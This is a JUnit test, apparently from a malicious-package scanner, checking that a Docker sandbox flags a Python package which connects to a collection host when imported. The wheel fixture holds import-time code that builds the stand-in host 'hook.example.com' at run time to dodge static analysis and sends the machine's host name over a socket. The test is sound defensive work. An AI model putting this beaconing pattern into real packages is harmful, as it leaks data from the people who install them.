package dev.airlock.analysis;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.airlock.analysis.archive.ArchiveLimits;
import dev.airlock.config.SandboxConfig;
import dev.airlock.model.Ecosystem;
import dev.airlock.sandbox.DockerSandbox;
import dev.airlock.testing.Requirements;
import java.nio.file.Path;
import java.time.Duration;
import java.util.Set;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * What the sandbox sees decides, in the real sandbox (a Docker engine is required in CI): the held-out
 * report's case of a package that looked up and connected to a collection host as it was imported, and
 * was still allowed. The fixture is harmless: a reserved name, no network in the sandbox, nothing sent
 * but the sandbox's own host name.
 */
class SandboxEvidenceTest {
    private static final String HOST = "hook.example.com";
    private static DockerSandbox sandbox;

    @TempDir
    Path dir;

    @BeforeAll
    static void engine() {
        sandbox = DockerSandbox.create(new SandboxConfig("runc", null, Duration.ofSeconds(30), Duration.ofSeconds(20), 1, 512, 256));
    }

    @AfterAll
    static void close() {
        if (sandbox != null) {
            sandbox.close();
        }
    }

    @Test
    void aModuleThatReachesACollectionHostAsItIsImportedIsBlockedOnWhatTheSandboxSaw() throws Exception {
        Requirements.require(sandbox.available() || sandbox.recheck(), "a Docker engine (" + sandbox.status() + ")");
        // The host is assembled at run time, as the samples do, so that static analysis alone has no endpoint to name.
        Path wheel = Fixtures.wheel(dir, "beacon_fixture-1.0", Fixtures.files(
                "beacon_fixture-1.0.dist-info/METADATA", Fixtures.pkgInfo("beacon-fixture", "1.0"),
                "beacon_fixture-1.0.dist-info/WHEEL", "Wheel-Version: 1.0\nGenerator: test\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
                "beacon_fixture-1.0.dist-info/top_level.txt", "beacon_fixture\n",
                "beacon_fixture-1.0.dist-info/RECORD", "",
                "beacon_fixture/__init__.py", "import platform, socket\n"
                        + "_parts = ['hook', 'example', 'com']\n"
                        + "try:\n"
                        + "    socket.create_connection(('.'.join(_parts), 443), timeout=2).sendall(platform.node().encode())\n"
                        + "except OSError:\n"
                        + "    pass\n"));
        try (Analyzer analyzer = new Analyzer(sandbox, ArchiveLimits.defaults(), Set.of("registry.example"))) {
            AnalysisResult alone = analyzer.analyzeStatic(wheel, Ecosystem.PYPI);
            assertNotEquals(Recommendation.MALICIOUS, alone.recommendation(), "static analysis alone: " + alone.findings());
            AnalysisResult seen = analyzer.analyze(wheel, Ecosystem.PYPI, true);
            assertEquals(Recommendation.MALICIOUS, seen.recommendation(), seen.findings().toString());
            assertTrue(seen.findings().stream().anyMatch(f -> f.rule().equals("unexpected_dns") && f.evidence().equals(HOST)),
                    seen.findings().toString());
            assertTrue(seen.findings().stream().anyMatch(f -> f.rule().equals("unexpected_connection")
                    && f.evidence().contains(HOST) && f.evidence().contains(":443")), seen.findings().toString());
        }
    }
}
